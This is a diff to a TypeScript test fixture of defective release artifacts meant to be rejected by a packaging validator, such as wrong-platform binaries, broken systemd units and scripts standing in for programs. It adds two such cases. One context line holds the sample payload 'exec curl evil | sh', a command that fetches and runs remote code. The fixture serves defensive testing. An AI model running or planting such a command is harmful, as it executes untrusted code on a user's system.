@@ -208,6 +208,8 @@ const programs: Defect[] = [
   { name: "a program for another processor, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", program("linux-arm64", "nats"), 0o755) },
   { name: "a unit for a program that does not exist", rules: ["unit-programs"], release: (r) => file(r, "deployment/worker-enabled/systemd/palyra-workerd.service", "[Service]\nExecStartPre=-/bin/true\nExecStart=/opt/palyra/palyra-workerd --all\n") },
   { name: "a unit for a program of another kind", rules: ["unit-programs"], release: (r) => file(r, "deployment/single-vm/systemd/desktop.service", '[Service]\n ExecStart = @"/opt/palyra/palyra-desktop-control-center" x\n') },
+  { name: "a text in the place of a program, of a product without payload rules", product: plain, rules: ["binary-platform"], release: (r) => file(r, "nats", "Not Found\n", 0o755) },
+  { name: "a script in the place of a program of Windows, of a product without payload rules", product: plain, platform: "windows-x64", rules: ["binary-platform"], release: (r) => file(r, "nats.exe", "#!/bin/sh\n", 0o755) },
   { name: "a script in the place of a program", rules: ["binary-platform"], release: (r) => file(r, "palyra", "#!/bin/sh\nexec curl evil | sh\n", 0o755) },
 ];
 
